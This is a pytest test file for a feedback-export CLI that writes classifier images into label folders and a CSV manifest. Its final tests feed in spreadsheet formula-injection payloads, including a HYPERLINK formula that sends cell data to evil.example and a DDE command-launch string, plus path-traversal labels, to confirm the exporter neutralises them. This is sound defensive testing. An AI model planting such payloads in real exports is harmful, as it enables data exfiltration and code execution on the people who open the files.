"""`python -m training export-feedback`: label folders fastai can read, and a manifest."""

from __future__ import annotations

import csv
import hashlib
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from model.feedback import AnsweredPhoto, FeedbackStore
from model.feedback.export import MANIFEST_COLUMNS, MANIFEST_NAME, folder_names
from model.types import LabelScore, Prediction
from tests import images

ROOT = Path(__file__).resolve().parents[1]
START = 1_700_000_000.0


def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The CLI in a fresh interpreter, reporting every import on stderr (-X importtime)."""
    return subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "training", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, **(env or {})},
    )


def imported(stderr: str) -> set[str]:
    """Top-level package names from `-X importtime` output."""
    return set(re.findall(r"^import time:.*\|\s*([\w]+)", stderr, flags=re.MULTILINE))


def messages(stderr: str) -> str:
    """stderr without the `-X importtime` lines."""
    return "\n".join(line for line in stderr.splitlines() if not line.startswith("import time:"))


@dataclass
class Feedback:
    """A populated data folder and the images it was given."""

    data_dir: Path
    coffee: bytes
    chelsea: bytes
    noise_png: bytes
    unsure_png: bytes


def prediction(label: str, probability: float) -> Prediction:
    return Prediction((LabelScore(label, probability), LabelScore("other", 0.1)), "lite0@3", 1, 1)


@pytest.fixture
def feedback(tmp_path: Path) -> Feedback:
    data_dir = tmp_path / "data"
    now = [START]

    def clock() -> float:
        now[0] += 60
        return now[0]

    made = Feedback(
        data_dir,
        coffee=images.coffee_jpeg(),
        chelsea=images.encode(images.chelsea(), "PNG"),
        noise_png=images.encode(images.noise(seed=1), "PNG"),
        unsure_png=images.encode(images.noise(seed=2), "PNG"),
    )
    store = FeedbackStore.open(data_dir, clock=clock)
    message = iter(range(1, 100))

    def add(
        kind: str, label: str | None, image: bytes | None, *, keep: bool = False, top: str = "x"
    ) -> str:
        record = store.record_prediction(
            AnsweredPhoto(
                chat_id=1,
                user_id=42,
                message_id=next(message),
                file_id="f",
                file_unique_id="u",
                prediction=prediction(top, 0.43219),
                uncertain=keep,
                image=image if keep else None,
            )
        )
        store.record_verdict(
            record.id, user_id=42, kind=kind, label=label, image=None if keep else image
        )
        return record.id

    add("wrong", "latte", made.coffee, top="espresso")
    add("wrong", "latte", made.coffee, top="espresso")  # the same photo again: one file
    add("wrong", "cats/dogs", made.chelsea)
    add("wrong", "..", made.noise_png)
    add("right", "tabby", made.chelsea, keep=True, top="tabby")  # confirmed, image kept
    add("right", None, None, top="espresso")  # confirmed, no image kept: manifest only
    add("unsure", None, made.unsure_png)
    add("wrong", "mocha", images.encode(images.noise(seed=3), "PNG"))
    add("wrong", "flat white", None)  # disputed, but the bot kept no image
    store.close()
    # An image deleted from the store behind the database's back.
    sha = hashlib.sha256(images.encode(images.noise(seed=3), "PNG")).hexdigest()
    (data_dir / "feedback" / "images" / sha[:2] / f"{sha}.png").unlink()
    return made


def test_export_writes_label_folders_and_manifest(tmp_path: Path, feedback: Feedback) -> None:
    """Disputed and confirmed images land in label folders byte for byte; all verdicts listed."""
    out = tmp_path / "export"
    result = run_cli("export-feedback", str(out), "--data-dir", str(feedback.data_dir))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Exported 4 images in 4 labels to ")
    assert "(1 not sure, 2 missing; 9 verdicts in manifest.csv)" in result.stdout
    assert not {"torch", "fastai", "telegram"} & imported(result.stderr)

    folders = sorted(path.name for path in out.iterdir() if path.is_dir())
    dots = "_-" + hashlib.sha256(b"..").hexdigest()[:8]
    slash = "cats_dogs-" + hashlib.sha256(b"cats/dogs").hexdigest()[:8]
    assert folders == sorted(["latte", "tabby", slash, dots])
    assert {path.name for path in out.iterdir() if path.is_file()} == {MANIFEST_NAME}

    def files(folder: str) -> dict[str, bytes]:
        return {path.name: path.read_bytes() for path in (out / folder).iterdir()}

    def named(data: bytes, ext: str) -> str:
        return f"{hashlib.sha256(data).hexdigest()}.{ext}"

    assert files("latte") == {named(feedback.coffee, "jpg"): feedback.coffee}
    assert files("tabby") == {named(feedback.chelsea, "png"): feedback.chelsea}
    assert files(slash) == {named(feedback.chelsea, "png"): feedback.chelsea}
    assert files(dots) == {named(feedback.noise_png, "png"): feedback.noise_png}
    # Nothing else anywhere: only label folders, one level deep, hold images.
    everything = [path for path in out.rglob("*") if path.is_file()]
    assert len(everything) == 5
    assert not any(path.name == named(feedback.unsure_png, "png") for path in everything)
    assert not [path for path in out.parent.iterdir() if path.name.startswith(".export")]

    with open(out / MANIFEST_NAME, newline="", encoding="utf-8") as file:
        reader = csv.DictReader(file)
        assert tuple(reader.fieldnames or ()) == MANIFEST_COLUMNS
        rows = list(reader)
    assert "user_id" not in MANIFEST_COLUMNS
    assert [row["verdict"] for row in rows] == ["wrong"] * 4 + ["right", "right", "unsure"] + [
        "wrong"
    ] * 2
    assert [row["corrected"] for row in rows] == [
        "latte",
        "latte",
        "cats/dogs",
        "..",
        "",
        "",
        "",
        "mocha",
        "flat white",
    ]
    assert rows[0]["image"] == f"latte/{named(feedback.coffee, 'jpg')}"
    assert rows[0]["image"] == rows[1]["image"]
    assert rows[4]["image"] == f"tabby/{named(feedback.chelsea, 'png')}"
    for row in rows:
        if row["image"]:
            assert (out / row["image"]).is_file()
    assert [row["image"] for row in rows[5:]] == ["", "", "", ""]  # no image, unsure, 2 missing
    assert rows[0]["predicted"] == "espresso"
    assert rows[0]["confidence"] == "0.4322"
    assert rows[0]["model_version"] == "lite0@3"
    assert datetime.fromisoformat(rows[0]["time"]) == datetime.fromtimestamp(START + 120, UTC)


def test_data_dir_defaults_to_environment(tmp_path: Path, feedback: Feedback) -> None:
    """Without --data-dir the CLI reads DATA_DIR, as the bot does."""
    out = tmp_path / "from-env"
    out.mkdir()  # an empty folder is fine
    result = run_cli("export-feedback", str(out), env={"DATA_DIR": str(feedback.data_dir)})
    assert result.returncode == 0, result.stderr
    assert (out / MANIFEST_NAME).is_file()


def test_refuses_a_non_empty_folder(tmp_path: Path, feedback: Feedback) -> None:
    """An export never writes into, or deletes from, a folder that already holds something."""
    out = tmp_path / "busy"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    result = run_cli("export-feedback", str(out), "--data-dir", str(feedback.data_dir))
    assert result.returncode == 2
    assert "not empty" in messages(result.stderr)
    assert [path.name for path in out.iterdir()] == ["keep.txt"]
    assert result.stdout == ""


def test_missing_database_is_a_clear_error(tmp_path: Path) -> None:
    """No feedback database yet: exit 2 with a message naming the path, and nothing created."""
    data_dir = tmp_path / "nothing-here"
    out = tmp_path / "out"
    result = run_cli("export-feedback", str(out), "--data-dir", str(data_dir))
    assert result.returncode == 2
    error = messages(result.stderr)
    assert "no feedback database" in error
    assert str(data_dir / "feedback" / "feedback.sqlite3") in error
    assert "Traceback" not in error
    assert not data_dir.exists()
    assert not out.exists()


def test_folder_names_are_safe_and_distinct() -> None:
    """Labels become folder names without separators or leading dots, and never merge."""
    labels = {
        "latte",
        "café crème",
        "a/b",
        "a_b",
        "..",
        ".",
        "",
        ".hidden",
        "back\\slash",
        "Latte Art",
        "latte art",
        "manifest.csv",
        "con",
        "x" * 300,
    }
    names = folder_names(labels)
    assert names["latte"] == "latte"
    assert names["café crème"] == "café crème"
    assert names["a_b"] == "a_b"
    assert len(set(names.values())) == len(labels)
    assert len({name.casefold() for name in names.values()}) == len(labels)
    for label, name in names.items():
        assert name
        assert "/" not in name and "\\" not in name
        assert not name.startswith(".")
        assert name.casefold() != MANIFEST_NAME
        assert len(name) <= 130
        if name != label:
            assert name.endswith(hashlib.sha256(label.encode()).hexdigest()[:8])


def test_manifest_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    """Labels users typed (and models trained on them) reach the manifest as text: a leading
    = + - @ (or tab, CR) gets a quote, and no label folder starts with one either."""
    data_dir = tmp_path / "data"
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    store = FeedbackStore.open(data_dir)
    try:
        for number, label in enumerate(hostile):
            record = store.record_prediction(
                AnsweredPhoto(
                    chat_id=1,
                    user_id=42,
                    message_id=number,
                    file_id="f",
                    file_unique_id="u",
                    # A model retrained on typed labels predicts them too.
                    prediction=Prediction((LabelScore("=cmd|' /C calc'!A0", 0.9),), "=m", 1, 1),
                    uncertain=False,
                )
            )
            image = images.encode(images.noise(40, 40, seed=100 + number), "PNG")
            store.record_verdict(record.id, user_id=42, kind="wrong", label=label, image=image)
    finally:
        store.close()
    out = tmp_path / "export"
    result = run_cli("export-feedback", str(out), "--data-dir", str(data_dir))
    assert result.returncode == 0, result.stderr

    with open(out / MANIFEST_NAME, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["corrected"] for row in rows] == ["'" + label for label in hostile]
    assert {row["predicted"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["model_version"] for row in rows} == {"'=m"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        # The image column is still the file's true path (its folder starts with "_").
        assert (out / row["image"]).is_file(), row["image"]
    assert all(path.name.startswith("_") for path in out.iterdir() if path.is_dir())
